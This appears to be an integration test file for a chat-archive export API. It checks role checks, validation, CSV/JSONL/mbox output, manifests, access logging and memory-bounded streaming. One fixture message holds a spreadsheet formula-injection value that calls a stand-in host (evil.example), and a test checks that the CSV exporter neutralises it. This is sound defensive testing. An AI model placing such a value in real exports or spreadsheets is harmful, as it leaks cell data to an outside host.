// GET /api/v1/export and /api/v1/exports through the real app on a real database: roles,
// validation, the three formats, trailers, manifests, the access log — and a large export over
// a real socket with the process's memory sampled while it streams.
import { createHash } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import v8 from 'node:v8';
import vm from 'node:vm';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RecordingAccessLog } from '../../test/support/access-log.ts';
import { archiveEntry, openArchiveDatabase } from '../../test/support/archive.ts';
import type { TestDatabase } from '../../test/support/database.ts';
import { fakeApiDeps } from '../../test/support/fake-auth.ts';
import type { ArchiveEntry } from '../audit/archive-record.ts';
import { ensureArchivePartitions } from '../audit/archive-partitions.ts';
import { buildApiApp } from './app.ts';
import { exportManifestRoutes, exportRoutes } from './routes/export.ts';

const OFFICER = 'test-officer-token_0123456789';
const AUDITOR = 'test-auditor-token_0123456789';
const ADMIN = 'test-admin-token_0123456789';
const accessLog = new RecordingAccessLog();
const logged = accessLog.entries;

const BASE = Date.parse('2024-03-01T00:00:00Z');
const at = (s: number) => new Date(BASE + s * 1000);
const A = 'alice@example.org';
const B = 'bob@example.org';
const C = 'carol@example.org';
const entry = (i: number, fromBare: string, toBare: string, body: string, extra: Partial<ArchiveEntry> = {}): ArchiveEntry =>
  archiveEntry({ ts: at(i), stanzaId: `m-${i}`, fromBare, toBare, body, fromJid: `${fromBare}/laptop`, policyVersion: 2, ...extra });

let db: TestDatabase;
let app: FastifyInstance;
beforeAll(async () => {
  db = await openArchiveDatabase({
    chain: 'api',
    partitionsFrom: at(0),
    entries: [
      entry(1, A, B, 'Hello Bob'),
      entry(2, B, A, '你好 Alice，项目进度如何？'),
      entry(3, C, A, '明天的炸弹演习取消了', { verdict: 'hold' }),
      entry(4, A, C, '=HYPERLINK("http://evil.example/?"&A1,"click")'),
      entry(5, B, C, '@everyone, "quoted", and\r\na second line'),
    ],
  });
  const sql = db.sql;
  app = await buildApiApp(fakeApiDeps('example.org', { [OFFICER]: 'officer', [AUDITOR]: 'auditor', [ADMIN]: 'admin' }), {
    resources: [
      { prefix: '/v1/export', plugin: exportRoutes({ sql, domain: 'example.org', accessLog }) },
      { prefix: '/v1/exports', plugin: exportManifestRoutes({ sql }) },
    ],
  });
}, 60_000);
afterAll(async () => {
  await app?.close();
  await db?.close();
});

const get = (url: string, token: string | null = OFFICER) =>
  app.inject({ method: 'GET', url, headers: token === null ? {} : { authorization: `Bearer ${token}` } });
const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');

/**
 * The manifest once the export has ended. The server records the end once the response has gone
 * out in full (or the connection closed), so a client that has just read the last byte may find
 * it still running for a moment.
 */
async function settled(id: string): Promise<Manifest> {
  for (let i = 0; ; i++) {
    const manifest = (await get(`/api/v1/exports/${id}`)).json() as Manifest;
    if (manifest.status !== 'running' || i === 200) return manifest;
    await new Promise((r) => setTimeout(r, 25));
  }
}

interface Manifest {
  id: string;
  account: string;
  format: string;
  query: Record<string, unknown>;
  status: string;
  count: number | null;
  sha256: string | null;
  bytes: number | null;
  createdAt: string;
  failure: string | null;
  finishedAt: string | null;
}

describe('GET /api/v1/export', () => {
  it('needs credentials (401) and the officer role (403) on every export route', async () => {
    for (const url of ['/api/v1/export', '/api/v1/exports', '/api/v1/exports/1']) {
      expect((await get(url, null)).statusCode).toBe(401);
      for (const token of [AUDITOR, ADMIN]) {
        const res = await get(url, token);
        expect(res.statusCode).toBe(403);
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      }
    }
  });

  it.each([
    ['?format=xml', /format/],
    ['?format=', /format/],
    ['?verdict=maybe', /verdict/],
    ['?since=yesterday', /since/],
    ['?peer=bob', /peer: needs user/],
    ['?user=a%20b', /user/],
    ['?since=2024-03-02T00:00:00Z&until=2024-03-01T00:00:00Z', /since must be before until/],
  ])('refuses %s with a 400 problem and starts no export', async (query, detail) => {
    logged.length = 0;
    const res = await get(`/api/v1/export${query}`);
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect((res.json() as { detail: string }).detail).toMatch(detail);
    expect(logged).toEqual([]);
  });

  it('streams JSON Lines with the id header, count and SHA-256 trailers, and a matching manifest', async () => {
    logged.length = 0;
    const res = await get('/api/v1/export?user=alice&until=2025-01-01T00:00:00Z');
    expect(res.statusCode).toBe(200);
    const id = res.headers['x-export-id'];
    expect(id).toMatch(/^\d+$/);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="warden-export-${id}.jsonl"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(String(res.headers.trailer).toLowerCase().split(' ').sort()).toEqual(['x-export-count', 'x-export-sha256']);
    const lines = res.body.trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string; body: string; chain: string; hash: string });
    expect(lines.map((l) => l.id)).toEqual(['m-1', 'm-2', 'm-3', 'm-4']);
    expect(lines[1]).toEqual(expect.objectContaining({ body: '你好 Alice，项目进度如何？', chain: 'api', hash: expect.stringMatching(/^[0-9a-f]{64}$/) }));
    const digest = sha256(res.rawPayload);
    expect(res.trailers).toEqual({ 'x-export-count': '4', 'x-export-sha256': digest });

    const manifest = await settled(String(id));
    expect(manifest).toEqual({
      id, account: 'officer-tester', format: 'jsonl', query: { user: A, until: '2025-01-01T00:00:00.000Z' }, status: 'complete',
      count: 4, sha256: digest, bytes: res.rawPayload.length, failure: null, createdAt: expect.any(String), finishedAt: expect.any(String),
    });
    // One entry before the first byte, one with the count, hash and ids at the end.
    expect(logged).toEqual([
      expect.objectContaining({ action: 'export', query: { user: A, until: '2025-01-01T00:00:00.000Z', format: 'jsonl' }, detail: { exportId: id, phase: 'start' } }),
      expect.objectContaining({
        action: 'export', messageIds: ['m-1', 'm-2', 'm-3', 'm-4'], messageCount: 4,
        detail: { exportId: id, phase: 'complete', count: 4, sha256: digest, bytes: res.rawPayload.length, idsRecorded: 4, idsSha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
      }),
    ]);
    // Every id, in file order, recorded before it was sent.
    expect(await recordedIds(String(id))).toEqual(['m-1', 'm-2', 'm-3', 'm-4']);
  });

  it('streams CSV that is RFC 4180 and safe to open in a spreadsheet', async () => {
    const res = await get('/api/v1/export?format=csv&until=2025-01-01T00:00:00Z');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toMatch(/filename="warden-export-\d+\.csv"$/);
    const text = res.body;
    expect(text.startsWith('\uFEFF"id","ts","from","to","type","direction","verdict","matches","body",')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    // The formula body gains a leading apostrophe; quotes are doubled; the CRLF inside a body stays inside its quoted cell.
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(text).toContain('"\'@everyone, ""quoted"", and\r\na second line"');
    expect(text).toContain('"明天的炸弹演习取消了"');
    expect(text).not.toMatch(/,"[=+\-@]/);
    expect(res.trailers['x-export-count']).toBe('5');
    expect(res.trailers['x-export-sha256']).toBe(sha256(res.rawPayload));
  });

  it('streams an mbox whose Chinese bodies decode exactly', async () => {
    const res = await get('/api/v1/export?format=eml&verdict=hold&until=2025-01-01T00:00:00Z');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/mbox');
    expect(res.headers['content-disposition']).toMatch(/filename="warden-export-\d+\.mbox"$/);
    const text = res.body;
    expect(text.startsWith(`From ${C} Fri Mar  1 00:00:03 2024\n`)).toBe(true);
    expect(text).toContain('\nContent-Type: text/plain; charset=utf-8\n');
    const b64 = text.slice(text.indexOf('\n\n') + 2).trim().replace(/\n/g, '');
    expect(Buffer.from(b64, 'base64').toString('utf8')).toBe('明天的炸弹演习取消了');
    expect(res.trailers['x-export-count']).toBe('1');
  });

  it('is described in the OpenAPI document with the file\'s media types', async () => {
    const doc = (await app.inject('/docs/json')).json() as { paths: Record<string, Record<string, { responses: Record<string, { content?: Record<string, unknown> }> }>> };
    expect(Object.keys(doc.paths['/api/v1/export']?.get?.responses['200']?.content ?? {}).sort()).toEqual(['application/mbox', 'application/x-ndjson', 'text/csv']);
    expect(doc.paths['/api/v1/exports/{id}']?.get?.responses['404']).toBeDefined();
  });

  it('lists manifests newest first with a cursor, and refuses a bad cursor or id', async () => {
    await settled((await get('/api/v1/exports?limit=1')).json<{ items: Manifest[] }>().items[0]!.id);
    const first = (await get('/api/v1/exports?limit=2')).json() as { items: Manifest[]; next: string | null };
    expect(first.items).toHaveLength(2);
    expect(Number(first.items[0]!.id)).toBeGreaterThan(Number(first.items[1]!.id));
    expect(first.items[0]).toEqual(expect.objectContaining({ format: 'eml', status: 'complete', count: 1 }));
    expect(first.next).toEqual(expect.any(String));
    const second = (await get(`/api/v1/exports?limit=2&cursor=${first.next}`)).json() as { items: Manifest[]; next: string | null };
    expect(Number(second.items[0]!.id)).toBeLessThan(Number(first.items[1]!.id));
    // Past bigint (9223372036854775807) or its 19 digits: the schema's 400, never the database's.
    const beyond = Buffer.from('9223372036854775808', 'utf8').toString('base64url');
    for (const url of [
      '/api/v1/exports?cursor=bogus!',
      '/api/v1/exports?cursor=abc',
      `/api/v1/exports?cursor=${beyond}`,
      '/api/v1/exports?limit=0',
      '/api/v1/exports/abc',
      '/api/v1/exports/9223372036854775808',
      '/api/v1/exports/9999999999999999999',
      '/api/v1/exports/0',
    ]) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      // Naming the parameter: not the database's generic "out of range" answer.
      expect(res.json<{ detail: string }>().detail, url).toMatch(/\b(id|cursor|limit)\b/);
    }
    const missing = await get('/api/v1/exports/999999');
    expect(missing.statusCode).toBe(404);
  });

  it('answers 503 access-log-unavailable, and sends nothing, when the export cannot be recorded', async () => {
    logged.length = 0;
    accessLog.fail = true;
    try {
      const res = await get('/api/v1/export?user=alice&until=2025-01-01T00:00:00Z');
      expect(res.statusCode).toBe(503);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.headers['retry-after']).toBe('30');
      expect(res.json()).toMatchObject({ type: 'urn:warden:problem:access-log-unavailable', status: 503 });
      expect(res.body).not.toContain('Hello Bob');
    } finally {
      accessLog.fail = false;
    }
    // Its manifest says it failed, and it holds no slot: the next export runs.
    const [failed] = (await get('/api/v1/exports?limit=1')).json<{ items: Manifest[] }>().items;
    expect(failed).toMatchObject({ status: 'failed', failure: 'error' });
    expect(await recordedIds(failed!.id)).toEqual([]);
    for (let i = 0; i < 3; i++) expect((await get('/api/v1/export?user=alice&until=2025-01-01T00:00:00Z')).statusCode).toBe(200);
  });
});

/** The stanza ids export_messages holds for an export, in file order. */
const recordedIds = async (exportId: string) =>
  (await db.sql<{ stanza_id: string }[]>`SELECT stanza_id FROM export_messages WHERE export_id = ${exportId}::bigint ORDER BY ord`).map((r) => r.stanza_id);

// ---------------------------------------------------------------------------------------------
// A large export over a real socket

/** The engine's gc(), for a clean baseline (vitest does not start node with --expose-gc). */
function exposeGc(): () => void {
  v8.setFlagsFromString('--expose-gc');
  return vm.runInNewContext('gc') as () => void;
}

describe('a large export', () => {
  const BULK = Date.parse('2024-05-01T00:00:00Z');
  // PGlite (WebAssembly, one backend) is several times slower: fewer rows keep the test short.
  let rows = 0;
  beforeAll(async () => {
    rows = db.embedded ? 100_000 : 200_000;
    await ensureArchivePartitions(db.sql, new Date(BULK));
    const started = performance.now();
    // One statement generates the rows; hashes are placeholders (verification is not the point).
    await db.sql`
      INSERT INTO archive (ts, chain, chain_seq, stanza_id, from_jid, to_jid, from_bare, to_bare, type, body, raw, direction, verdict, matches, prev_hash, hash)
      SELECT ${new Date(BULK).toISOString()}::timestamptz + i * interval '10 milliseconds', 'bulk', i, 'bulk-' || i,
             'u' || (i % 100) || '@bulk.test/r', 'u' || ((i + 1) % 100) || '@bulk.test',
             'u' || (i % 100) || '@bulk.test', 'u' || ((i + 1) % 100) || '@bulk.test', 'chat',
             '第' || i || '条消息：' || repeat('明天下午三点在会议室讨论季度报告，请准时参加。Meeting about the quarterly report at 3pm, bring the numbers. ', 4),
             '<message/>', 'internal', CASE WHEN i % 100 = 0 THEN 'flag' ELSE 'allow' END,
             CASE WHEN i % 100 = 0 THEN '[{"ruleId":"r1","ruleName":"report","action":"flag","severity":"low","start":0,"end":2,"match":"第"}]'::jsonb ELSE '[]'::jsonb END,
             '\\x00'::bytea, sha256(int4send(i))
      FROM generate_series(1, ${rows}::int) AS i`;
    // As autovacuum would: without statistics the planner takes the range for a few rows and
    // sorts every remaining row for each batch instead of walking the (ts, id) index.
    await db.sql`ANALYZE archive`;
    console.log(`[export] inserted ${rows} rows in ${Math.round(performance.now() - started)} ms (${db.embedded ? 'PGlite' : 'PostgreSQL'})`);
    await app.listen({ port: 0, host: '127.0.0.1' });
  }, 120_000);
  const since = encodeURIComponent(new Date(BULK).toISOString());

  it('streams every row with flat memory, and the manifest holds the count and SHA-256 of the bytes received', async () => {
    const { port } = app.server.address() as AddressInfo;
    const gc = exposeGc();
    gc();
    const base = process.memoryUsage();
    // What the process holds: the JS heap plus `external` (Buffers live outside the heap — the
    // chunks of the file are Buffers). Raw heapUsed also counts garbage not yet collected (V8
    // lets the old generation grow before a full collection); after a forced gc() the sum is
    // what is actually retained — the number that must stay flat. Both are sampled while the file streams.
    const held = (m: NodeJS.MemoryUsage) => m.heapUsed + m.external;
    let peakHeap = base.heapUsed;
    let peakLive = held(base);
    let peakRss = base.rss;
    let ticks = 0;
    const sampler = setInterval(() => {
      const m = process.memoryUsage();
      peakHeap = Math.max(peakHeap, m.heapUsed);
      peakRss = Math.max(peakRss, m.rss);
      if (++ticks % 10 === 0) {
        gc();
        peakLive = Math.max(peakLive, held(process.memoryUsage()));
      }
    }, 10);

    const started = performance.now();
    const received = await new Promise<{ id: string; bytes: number; lines: number; sha256: string; first: string; last: string; trailers: NodeJS.Dict<string> }>(
      (resolve, reject) => {
        const req = http.get({ host: '127.0.0.1', port, path: `/api/v1/export?format=jsonl&since=${since}`, headers: { authorization: `Bearer ${OFFICER}` } }, (res) => {
          if (res.statusCode !== 200) return reject(new Error(`HTTP ${res.statusCode}`));
          const hash = createHash('sha256');
          let bytes = 0;
          let lines = 0;
          let head = '';
          let tail = Buffer.alloc(0);
          res.on('data', (chunk: Buffer) => {
            hash.update(chunk);
            bytes += chunk.length;
            for (let i = chunk.indexOf(10); i >= 0; i = chunk.indexOf(10, i + 1)) lines++;
            if (head.length < 4096) head += chunk.toString('utf8', 0, Math.min(chunk.length, 4096));
            tail = Buffer.concat([tail, chunk]).subarray(-4096);
          });
          res.on('end', () => {
            const tailLines = tail.toString('utf8').trimEnd().split('\n');
            resolve({
              id: String(res.headers['x-export-id']), bytes, lines, sha256: hash.digest('hex'),
              first: head.split('\n')[0] ?? '', last: tailLines[tailLines.length - 1] ?? '', trailers: res.trailers,
            });
          });
          res.on('error', reject);
        });
        req.on('error', reject);
      },
    );
    const seconds = (performance.now() - started) / 1000;
    clearInterval(sampler);

    const liveGrowth = peakLive - held(base);
    const mb = (n: number) => (n / 1024 / 1024).toFixed(1);
    console.log(
      `[export] ${db.embedded ? 'PGlite' : 'PostgreSQL'}: ${received.lines} rows, ${mb(received.bytes)} MB in ${seconds.toFixed(2)} s ` +
        `(${Math.round(received.lines / seconds)} rows/s, ${mb(received.bytes / seconds)} MB/s); live (heap + external) growth ${mb(liveGrowth)} MB ` +
        `(${ticks / 10 | 0} samples); peak heapUsed growth incl. garbage ${mb(peakHeap - base.heapUsed)} MB, peak RSS growth ${mb(peakRss - base.rss)} MB`,
    );

    expect(received.lines).toBe(rows);
    expect(JSON.parse(received.first)).toEqual(expect.objectContaining({ id: 'bulk-1', from: 'u1@bulk.test/r', chain: 'bulk', chainSeq: 1 }));
    expect(JSON.parse(received.last)).toEqual(expect.objectContaining({ id: `bulk-${rows}` }));
    expect(received.trailers).toEqual({ 'x-export-count': String(rows), 'x-export-sha256': received.sha256 });
    const manifest = await settled(received.id);
    expect(manifest).toEqual(expect.objectContaining({ status: 'complete', count: rows, sha256: received.sha256, bytes: received.bytes, failure: null }));
    // Every message on the access log, not only the first 1000.
    const [recorded] = await db.sql<{ n: number; last: string }[]>`
      SELECT count(*)::int AS n, max(ord)::text AS last FROM export_messages WHERE export_id = ${received.id}::bigint`;
    expect(recorded).toEqual({ n: rows, last: String(rows) });
    // The file is larger than the bound, so holding it (or most of it) would fail the test.
    const BOUND = 64 * 1024 * 1024;
    expect(received.bytes).toBeGreaterThan(BOUND);
    expect(ticks).toBeGreaterThanOrEqual(20);
    expect(liveGrowth).toBeLessThan(BOUND);
  }, 120_000);

  it('marks an export the client cuts off as failed, with the access log holding both ends', async () => {
    logged.length = 0;
    const { port } = app.server.address() as AddressInfo;
    const id = await new Promise<string>((resolve, reject) => {
      const req = http.get({ host: '127.0.0.1', port, path: `/api/v1/export?since=${since}`, headers: { authorization: `Bearer ${OFFICER}` } }, (res) => {
        res.once('data', () => {
          resolve(String(res.headers['x-export-id']));
          req.destroy();
        });
        res.on('error', () => {});
      });
      req.on('error', (err) => {
        if ((err as NodeJS.ErrnoException).code !== 'ECONNRESET') reject(err);
      });
    });
    let manifest: Manifest | undefined;
    for (let i = 0; i < 200; i++) {
      manifest = (await get(`/api/v1/exports/${id}`)).json() as Manifest;
      if (manifest.status !== 'running') break;
      await new Promise((r) => setTimeout(r, 50));
    }
    expect(manifest).toEqual(expect.objectContaining({ status: 'failed', failure: 'disconnected', sha256: null, finishedAt: expect.any(String) }));
    expect(manifest?.count).toBeLessThan(rows);
    expect(logged.map((e) => [e.action, e.detail?.phase])).toEqual([['export', 'start'], ['export', 'failed']]);
    expect(logged[1]?.messageIds?.[0]).toBe('bulk-1');
    // The manifest's count is of the whole lines within its bytes; the access log names at least those.
    expect(logged[1]?.messageCount).toBeGreaterThanOrEqual(manifest!.count!);
    // Each message begun was recorded before it went out (and the rest of its batch with it).
    const recorded = await recordedIds(id);
    expect(recorded.length).toBeGreaterThanOrEqual(logged[1]!.messageCount!);
    expect(logged[1]?.detail?.idsRecorded).toBe(recorded.length);
    expect(recorded[recorded.length - 1]).toBe(`bulk-${recorded.length}`);
  }, 60_000);

  it('records a cut-off export with the bytes that went out, not the bytes produced', async () => {
    const { port } = app.server.address() as AddressInfo;
    // The client reads 1 MB and stops; the server can produce only as far as the buffers between them allow.
    const { id, received } = await new Promise<{ id: string; received: number }>((resolve, reject) => {
      const req = http.get({ host: '127.0.0.1', port, path: `/api/v1/export?since=${since}`, headers: { authorization: `Bearer ${OFFICER}` } }, (res) => {
        let got = 0;
        res.on('data', (chunk: Buffer) => {
          got += chunk.length;
          if (got >= 1024 * 1024) {
            res.pause();
            setTimeout(() => {
              resolve({ id: String(res.headers['x-export-id']), received: got });
              req.destroy();
            }, 300);
          }
        });
        res.on('error', () => {});
      });
      req.on('error', (err) => {
        if ((err as NodeJS.ErrnoException).code !== 'ECONNRESET') reject(err);
      });
    });
    const manifest = await settled(id);
    expect(manifest).toEqual(expect.objectContaining({ status: 'failed', failure: 'disconnected' }));
    // At least what the client read went out; far less than the 160 MB file.
    expect(manifest.bytes).toBeGreaterThanOrEqual(received - 128 * 1024);
    expect(manifest.bytes).toBeLessThan(64 * 1024 * 1024);
    // Its count is exactly the whole lines within those bytes (rows are ~800 bytes each, in order).
    const { whole, again } = await new Promise<{ whole: Buffer; again: string }>((resolve, reject) => {
      const req = http.get({ host: '127.0.0.1', port, path: `/api/v1/export?since=${since}&until=${encodeURIComponent(String(manifest.query.until))}`, headers: { authorization: `Bearer ${OFFICER}` } }, (res) => {
        const parts: Buffer[] = [];
        let got = 0;
        const done = () => resolve({ whole: Buffer.concat(parts), again: String(res.headers['x-export-id']) });
        res.on('data', (chunk: Buffer) => {
          parts.push(chunk);
          got += chunk.length;
          if (got > manifest.bytes! + 1) {
            req.destroy();
            done();
          }
        });
        res.on('end', done);
        res.on('error', () => {});
      });
      req.on('error', (err) => {
        if ((err as NodeJS.ErrnoException).code !== 'ECONNRESET') reject(err);
      });
    });
    await settled(again);
    const within = whole.subarray(0, manifest.bytes!);
    expect(manifest.count).toBe(within.toString('latin1').split('\n').length - 1);
  }, 60_000);

  it('runs at most two exports at once: a third is answered 429 with Retry-After until one ends', async () => {
    const { port } = app.server.address() as AddressInfo;
    const stalled = await Promise.all(
      [1, 2].map(
        () =>
          new Promise<{ req: http.ClientRequest; id: string }>((resolve, reject) => {
            const req = http.get({ host: '127.0.0.1', port, path: `/api/v1/export?since=${since}`, headers: { authorization: `Bearer ${OFFICER}` } }, (res) => {
              res.pause(); // reads nothing: the export stays in progress
              res.on('error', () => {});
              resolve({ req, id: String(res.headers['x-export-id']) });
            });
            req.on('error', (err) => {
              if ((err as NodeJS.ErrnoException).code !== 'ECONNRESET') reject(err);
            });
          }),
      ),
    );
    const third = await get('/api/v1/export?user=alice&until=2025-01-01T00:00:00Z');
    expect(third.statusCode).toBe(429);
    expect(third.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(third.headers['retry-after']).toBe('30');
    expect(third.json()).toMatchObject({ type: 'urn:warden:problem:too-many-exports', status: 429 });
    for (const s of stalled) s.req.destroy();
    for (const s of stalled) expect((await settled(s.id)).status).toBe('failed');
    // Slots are given back once a run has recorded its end.
    let again = await get('/api/v1/export?user=alice&until=2025-01-01T00:00:00Z');
    for (let i = 0; i < 40 && again.statusCode === 429; i++) {
      await new Promise((r) => setTimeout(r, 25));
      again = await get('/api/v1/export?user=alice&until=2025-01-01T00:00:00Z');
    }
    expect(again.statusCode).toBe(200);
  }, 60_000);

  it('does not answer HEAD (it would run a whole export for nothing)', async () => {
    const res = await app.inject({ method: 'HEAD', url: '/api/v1/export', headers: { authorization: `Bearer ${OFFICER}` } });
    // 405 Method Not Allowed naming GET (app.ts answers a known path's other methods so).
    expect(res.statusCode).toBe(405);
    expect(res.headers.allow).toBe('GET');
  });
});
